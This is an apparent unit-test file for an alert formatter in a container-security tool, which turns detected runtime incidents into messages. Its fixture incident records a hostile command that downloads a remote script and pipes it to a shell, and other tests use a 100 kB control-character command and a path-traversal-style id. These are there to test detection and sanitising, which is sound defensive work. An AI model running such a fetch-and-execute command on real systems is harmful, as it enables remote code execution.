import { incidentMessage, type IncidentReport } from './incident-message.js';

const digest = `sha256:${'4f'.repeat(32)}`;
const console = { consoleUrl: 'https://tidewaiter.example.com' };

const incident: IncidentReport = {
  id: '0198a1c2',
  number: 12,
  rule: 'shell-in-container',
  title: 'Shell spawned',
  severity: 'high',
  status: 'open',
  revision: 1,
  imageReference: 'registry.example.com/shop/checkout:1.4',
  imageDigest: digest,
  known: true,
  cluster: 'eu1',
  namespace: 'prod',
  pod: 'checkout-7d9',
  container: 'checkout',
  commandLine: 'sh -c "curl http://198.51.100.23/x.sh | sh"',
  user: 'root',
  sensor: 'falco-eu1',
  priority: 'warning',
  count: 3,
  firstSeen: '2026-11-25T10:42:00.123456789Z',
  lastSeen: '2026-11-25T10:45:00Z',
  techniques: ['T1059'],
  tags: ['container'],
  imageFacts: {
    isJudged: true,
    counts: { critical: 1, high: 2, medium: 9, low: 0, negligible: 0, unknown: 0 },
    pushedAt: '2026-11-24T08:00:00Z',
    pushedBy: 'ci-bot',
  },
};

describe('incidentMessage', () => {
  it('joins the event with what is known of its image', () => {
    const message = incidentMessage(incident, console);
    expect(message).toMatchObject({
      kind: 'incident',
      status: 'firing',
      severity: 'high',
      title: 'High · Shell spawned · prod/checkout-7d9 (INC-12)',
    });
    expect(message.summary).toBe(
      'Seen 3 times, 2026-11-25 10:42 UTC to 2026-11-25 10:45 UTC, by falco-eu1. Its image has 3 critical or high findings.',
    );
    expect(message.facts[0]).toEqual({ label: 'Command', value: 'sh -c "curl http://198.51.100.23/x.sh | sh"' });
    expect(message.facts).toContainEqual({ label: 'Image pushed', value: '2026-11-24 08:00 UTC by ci-bot' });
    expect(message.links.map(({ url }) => url)).toEqual([
      'https://tidewaiter.example.com/#incidents/0198a1c2',
      `https://tidewaiter.example.com/#images/${digest}`,
    ]);
  });

  it.each<[string, Partial<IncidentReport>, string]>([
    ['not analysed', { known: false }, 'Tidewaiter has not analysed this image: what it contains is unknown.'],
    [
      'on the host',
      { imageReference: null, imageDigest: null, known: false },
      'It did not happen in a container whose image is known.',
    ],
    [
      'still analysed',
      { imageFacts: { counts: null, isJudged: false, pushedAt: null, pushedBy: null } },
      'The analysis of its image is not finished.',
    ],
    [
      'clean',
      {
        imageFacts: {
          isJudged: true,
          counts: { critical: 0, high: 0, medium: 1, low: 0, negligible: 0, unknown: 0 },
          pushedAt: null,
          pushedBy: null,
        },
      },
      'Its image has no critical or high findings.',
    ],
    [
      'not judged completely',
      {
        imageFacts: {
          isJudged: false,
          counts: { critical: 0, high: 0, medium: 0, low: 0, negligible: 0, unknown: 1 },
          pushedAt: null,
          pushedBy: null,
        },
      },
      'Its image could not be judged completely.',
    ],
  ])('says when the image is %s', (_, change, expected) => {
    const message = incidentMessage({ ...incident, ...change }, console);
    expect(message.summary).toContain(expected);
    expect(message.links).toHaveLength(change.known === false ? 1 : 2);
  });

  it('says when it is over', () => {
    expect(incidentMessage({ ...incident, status: 'resolved' }, console)).toMatchObject({
      status: 'resolved',
      title: 'Resolved · Shell spawned · prod/checkout-7d9 (INC-12)',
    });
  });

  it('leaves out what the sensor did not fill', () => {
    const bare = {
      ...incident,
      cluster: null,
      namespace: null,
      pod: null,
      container: null,
      commandLine: null,
      user: null,
      techniques: [],
      tags: [],
      count: 1,
    };
    const message = incidentMessage(bare, console);
    expect(message.title).toBe('High · Shell spawned · host (INC-12)');
    expect(message.summary).toContain('Seen once, 2026-11-25 10:42 UTC, by falco-eu1.');
    expect(message.facts.map(({ label }) => label)).toEqual([
      'Image',
      'Digest',
      'Sensor',
      'Image findings',
      'Image pushed',
    ]);
  });

  it('keeps a command line of 100 kB and its tricks to one short line', () => {
    const { facts } = incidentMessage({ ...incident, commandLine: `sh\n\u202E${'A'.repeat(100_000)}` }, console);
    expect(facts[0]?.value).toMatch(/^sh A{290,300}…$/);
  });

  it('puts nothing of an event into a link as it is', () => {
    const [link] = incidentMessage({ ...incident, id: '../x?<|>' }, console).links;
    expect(link?.url).toBe('https://tidewaiter.example.com/#incidents/..%2Fx%3F%3C%7C%3E');
  });
});
